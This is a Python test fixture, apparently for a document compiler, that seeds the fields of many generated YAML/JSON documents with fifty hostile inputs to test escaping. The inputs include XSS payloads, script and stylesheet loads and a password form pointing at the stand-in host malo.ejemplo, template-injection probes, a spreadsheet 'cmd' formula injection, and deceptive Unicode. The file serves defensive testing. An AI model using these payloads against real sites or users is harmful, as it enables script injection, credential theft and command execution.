"""De cincuenta textos hostiles a un país de mesas que los llevan en cada campo de texto de cada documento."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any, NamedTuple

from mesgepret import compilador
from mesgepret.deposito import Arbol
from mesgepret.diagnostico import Gravedad
from tests.conftest import leer_base, leer_recursos
from tests.imprenta.molde import documento

if TYPE_CHECKING:
    from mesgepret.compilador import Revision

TEXTOS = (
    # Programas, con y sin disfraz.
    "<script>__pwned=1;alert(1)</script>",
    "<ScRiPt src=https://malo.ejemplo/x.js></sCrIpT>",
    '"><script>__pwned=2</script>',
    "'></a></td></table><script>__pwned=3</script>",
    "</title></style></textarea><script>__pwned=4</script>",
    "<scr<script>ipt>__pwned=5</scr</script>ipt>",
    "&lt;script&gt;__pwned=6&lt;/script&gt; &#60;script&#62;__pwned=6&#60;/script&#62;",
    "\\u003cscript\\u003e__pwned=7\\u003c/script\\u003e",
    # Manejadores, dentro y fuera de un atributo.
    "<img src=x onerror=__pwned=8>",
    '" onmouseover="__pwned=9" autofocus onfocus="__pwned=9" x="',
    "' onclick='__pwned=10' tabindex=1 accesskey=x '",
    "<body onload=__pwned=11><details open ontoggle=__pwned=11>",
    "<input autofocus onfocus=__pwned=12><video src=https://malo.ejemplo/v onerror=__pwned=12>",
    "<a href=# onclick=__pwned=13>clic</a><button formaction=javascript:__pwned=13>clic</button>",
    # Dibujos y fórmulas.
    "<svg onload=__pwned=14><script>__pwned=14</script></svg>",
    "<svg><animate onbegin=__pwned=15 attributeName=x dur=1s></svg>",
    "</text></svg><svg><use href=data:image/svg+xml;base64,PHN2Zy8+ /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned=17></style></mglyph></table></mtext></math>",
    # Estilo y lo que pide algo afuera.
    "<style>*{display:none}body{background:url(https://malo.ejemplo/f)}</style>",
    '" style="position:fixed;inset:0;background:url(https://malo.ejemplo/g)" x="',
    "<link rel=stylesheet href=https://malo.ejemplo/c.css><meta http-equiv=refresh content='0;url=https://malo.ejemplo'>",
    "<iframe src=https://malo.ejemplo></iframe><object data=https://malo.ejemplo></object><base href=https://malo.ejemplo>",
    "<form action=https://malo.ejemplo><input name=clave></form>",
    # Enlaces que no lo son.
    "javascript:__pwned=24",
    "JaVaScRiPt:alert(24)//https://malo.ejemplo",
    "data:text/html,<script>__pwned=26</script>",
    "[clic](javascript:__pwned=27) [clic](<javascript:__pwned=27>) [clic](java&#115;cript:__pwned=27)",
    "[a]: javascript:__pwned=28\n\n[clic][a] <javascript:__pwned=28>",
    "[clic](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml,<svg/onload=__pwned=29>)",
    "![imagen](https://malo.ejemplo/i.png) ![otra](//malo.ejemplo/j.png)",
    '[clic](https://ejemplo.hn "onmouseover=__pwned=31" onclick=__pwned=31) [x](//malo.ejemplo)',
    "<https://ejemplo.hn/\"onmouseover=__pwned=32> https://ejemplo.hn/'onclick=__pwned=32",
    # Trampas de Markdown.
    "`<img src=x onerror=__pwned=33>` ``` <script>__pwned=33</script>",
    "```\n<script>__pwned=34</script>\n",
    "# Título\n## Otro\n---\n* * *\n> cita\n1. uno\n- [ ] tarea\n\n| a | b |\n|---|---|\n| c | d |",
    "**sin cerrar __ni esto ~~ni esto [ni esto](ni <esto ni *esto",
    "    código\n\n\t<div onclick=__pwned=37>bloque</div>",
    # Lenguas de plantillas, comentarios y secciones.
    "{{ 7*7 }} {{ self.__init__.__globals__ }} {{ cycler.__init__ }}",
    "{% raw %}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}{# comentario #}",
    "${7*7} #{7*7} <%= 7*7 %> <?php echo 7*7 ?> {{constructor.constructor('__pwned=40')()}}",
    "<!-- comentario sin cerrar <![CDATA[ <script>__pwned=41</script>",
    "]]> --> --!> <!DOCTYPE html> <![endif]--> </body></html>",
    # Escritura que engaña al ojo o al ancho.
    "\u202egnp.exe \u2066aislado \u202babc \u200f12\u200e34",
    "مرحبا بالعالم שלום עולם هندوراس ١٢٣",
    "invi\u200bsi\u200cble\u2060 \u00adguion\u00ad\u00adblando \u00a0\u2003 ancho",
    "👩🏽\u200d👩🏽\u200d👧🏽\u200d👦🏽 🏳\ufe0f\u200d🌈 🇭🇳 Z̸̡̛̰̤͓̈́̿a̷͔͐l̶̰̈́g̵̞̚o̸̧͠ ﷽﷽﷽",
    "漢字かな交じり文" * 40,
    "W" * 10_000,
    "https://ejemplo.hn/" + "a/" * 900 + "?b=" + "c" * 1500,
    # Hojas de cálculo.
    '=HYPERLINK("https://malo.ejemplo";"clic") +1+cmd|\' /C calc\'!A0 @SUM(1) -2+3',
)
"""Cincuenta, todos admitidos por la lectura: los que rechaza van aparte."""

RECHAZADOS = (
    "nulo \0 dentro",
    "escape \x1b[31m",
    "salto \u2028 de otra clase",
    "marca \ufeff de orden",
    "control \x85",
)
"""Los que nunca llegan a una página: la lectura los rechaza y dice dónde."""

MARCA = re.compile(r"zq\d+z")

MESAS = 25
"""Con dos textos en cada campo, bastan para que cada campo lleve los cincuenta."""

SITIOS = {
    "metas": "mcr/sectoriales/{mesa}.yaml",
    "avances": "mcr/avances/2024-T2/{institucion}.yaml",
    "mesa": "mesas/{mesa}/mesa.yaml",
    "miembros": "mesas/{mesa}/miembros/{institucion}.yaml",
    "plan": "mesas/{mesa}/planes/2025.yaml",
    "convocatoria": "mesas/{mesa}/convocatorias/2024-04-04.yaml",
    "acta": "mesas/{mesa}/actas/2024-04-04.yaml",
    "seguimiento": "mesas/{mesa}/seguimiento/2024-04-05.yaml",
    "diagnostico": "mesas/{mesa}/diagnostico.yaml",
    "limitantes": "mesas/{mesa}/limitantes.yaml",
    "propuesta": "mesas/{mesa}/propuestas/una.yaml",
    "poa": "mesas/{mesa}/poa/2024/{institucion}.yaml",
    "informe": "mesas/{mesa}/informes/uno.yaml",
}

# Lo que el molde enlaza con la organización pequeña, enlazado aquí con la propia mesa: así se ve en más páginas.
_PROPIOS = {
    '"SALUD-M1-I1"': '"{sigla}-M9-I9"',
    '"SALUD-M1"': '"{sigla}-M9"',
    '"SALUD-P2024-A1"': '"{sigla}-P2025-A9"',
    '"SALUD-L1"': '"{sigla}-L9"',
    '"SALUD-2024-03-21-A1"': '"{sigla}-2024-04-04-A9"',
    '"SALUD-2024-03-21"': '"{sigla}-2024-04-04"',
    '"ana-lopez"': '"2024-05-30"',
    '"grupo": "2024-05-30"': '"grupo": "grupo"',
    '"sesal"': '"{institucion}"',
    '"estado": "borrador"': '"estado": "definitiva"',
}


# Lo que, dicho, hace que lo otro no se enseñe: un miembro y su nombre. Cada cosa se dice también sin la otra.
_SOMBRAS = (("miembro", "nombre"), ("url", "archivo"), ("acta", "texto"), ("sobre", "sobre_texto"))

# Referencias a lo que estas mesas no tienen, que dejarían la mesa en duda y sin juzgar.
_SIN_DESTINO = frozenset(["vertiente", "alertas"])


class Campo(NamedTuple):
    """Un texto puesto en un campo de un documento: en qué clave de qué rama de él."""

    clase: str
    rama: str
    clave: str
    texto: str


class PaisHostil(NamedTuple):
    """Los documentos y lo que se puso en ellos, por la marca que va detrás de cada texto y dice dónde fue a parar."""

    archivos: dict[str, bytes]
    campos: dict[str, Campo]


def pais_hostil() -> PaisHostil:
    """El país de la organización pequeña con veinticinco mesas más, hostiles de arriba abajo."""
    archivos = dict(leer_base())
    campos: dict[str, Campo] = {}
    sectores, instituciones = [archivos["mcr/sectores.yaml"].decode()], [archivos["mcr/instituciones.yaml"].decode()]
    for cual in range(MESAS):
        mesa = {"mesa": f"m{cual:02}", "sigla": f"M{cual:02}", "institucion": f"i{cual:02}", "siglas": f"I{cual:02}"}
        sectores.append(
            "  - {{id: {mesa}, sigla: {sigla}, nombre: {mesa}, rectoras: [{institucion}]}}\n".format(**mesa)
        )
        linea = "  - {{id: {institucion}, sigla: {siglas}, nombre: {institucion}, sectores: [{mesa}], fuente: una}}\n"
        instituciones.append(linea.format(**mesa))
        poner = _Mano(cual, campos)
        for poner.clase, sitio in SITIOS.items():
            datos = _desdoblado(json.loads(documento(poner.clase, texto=poner)))
            if poner.clase == "mesa":
                datos["diger"]["analistas"][0]["id"], datos["grupos"][0]["id"] = "analista", "grupo"
            for rama, dato in datos.items():
                campos |= {m: campos[m]._replace(rama=rama) for m in MARCA.findall(json.dumps(dato))}
            escrito = json.dumps(datos, ensure_ascii=False)
            for de_salud, suyo in _PROPIOS.items():
                escrito = escrito.replace(de_salud, suyo.format(**mesa))
            archivos[sitio.format(**mesa)] = escrito.encode()
    archivos["mcr/sectores.yaml"] = "".join(sectores).encode()
    archivos["mcr/instituciones.yaml"] = "".join(instituciones).encode()
    return PaisHostil(archivos, campos)


def revisar(archivos: dict[str, bytes]) -> Revision:
    """Lo que el compilador dice de ellos, cuando cada documento justifica un incumplimiento suyo.

    Una justificación solo se publica con el incumplimiento que justifica: antes hay que saber cuál tiene cada uno.
    """
    justificados = dict(archivos)
    for hallazgo in _revisar(archivos).hallazgos:
        archivo = hallazgo.ubicacion.archivo
        escrito = archivos[archivo].decode() if hallazgo.gravedad is Gravedad.INCUMPLIMIENTO else ""
        if '"regla": "C102", "sobre"' in escrito:
            datos = json.loads(escrito)
            datos["justificaciones"][0]["regla"] = hallazgo.codigo
            del datos["justificaciones"][0]["sobre"]
            justificados[archivo] = json.dumps(datos, ensure_ascii=False).encode()
    return _revisar(justificados)


def _revisar(archivos: dict[str, bytes]) -> Revision:
    return compilador.revisar(Arbol(dict(sorted(archivos.items()))), leer_recursos())


class _Mano:
    """Quien escribe los textos en los documentos de una mesa, dos en cada campo, y anota dónde los pone."""

    clase = ""

    def __init__(self, cual: int, campos: dict[str, Campo]) -> None:
        self.siguiente, self.campos = 2 * cual, campos

    def __call__(self, clave: str) -> str:
        juntos = []
        for vez in (0, 1):
            texto = TEXTOS[(self.siguiente + vez) % len(TEXTOS)]
            marca = f"zq{len(self.campos)}z"
            self.campos[marca] = Campo(self.clase, "", clave, texto)
            juntos.append(f"{texto} {marca}")
        self.siguiente += 1
        return "\n\n".join(juntos)


def _desdoblado(dato: Any) -> Any:
    """El documento, con lo que se tapa en dos elementos de su lista; fuera de una lista, sin lo que tapa."""
    if isinstance(dato, list):
        return [variante for uno in dato for variante in _variantes(_desdoblado(uno))]
    if isinstance(dato, dict):
        return {c: _variantes(_desdoblado(valor))[0] for c, valor in dato.items() if c not in _SIN_DESTINO}
    return dato


def _variantes(dato: Any) -> list[Any]:
    for tapa, tapado in _SOMBRAS:
        if isinstance(dato, dict) and {tapa, tapado} <= dato.keys():
            return [{c: v for c, v in dato.items() if c != una} for una in (tapa, tapado)]
    return [dato]
